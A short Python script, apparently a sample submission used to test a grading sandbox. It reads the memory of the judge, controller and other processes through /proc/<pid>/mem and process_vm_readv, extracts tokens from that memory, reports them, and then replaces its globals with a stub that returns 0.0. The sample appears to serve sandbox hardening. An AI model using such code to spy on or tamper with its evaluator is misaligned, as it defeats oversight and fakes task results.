"""vault wrong_answer 0: the memory of judge, controller and another process, by file and by system call."""

import ctypes
import os

import forge

libc = ctypes.CDLL(None, use_errno=True)


def by_file(pid):
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in list(maps)[:400]:
            start, _, end = line.split()[0].partition("-")
            if "rw" in line and int(end, 16) - int(start, 16) < 1 << 24:
                try:
                    memory.seek(int(start, 16))
                    found += forge.tokens(memory.read(int(end, 16) - int(start, 16)))
                except OSError:
                    pass
    return found


for key in ("witness", "judge", "pid"):
    pid = int(forge.PREY.get(key, 1))
    try:
        found = by_file(pid)
        if found:
            forge.shout(key, found)
    except OSError:
        pass
    here = ctypes.create_string_buffer(64)
    vector = (ctypes.c_ulong * 2)(ctypes.addressof(here), 64)
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
        forge.shout("looked into", key)
forge.pretend(globals(), lambda *a: 0.0)
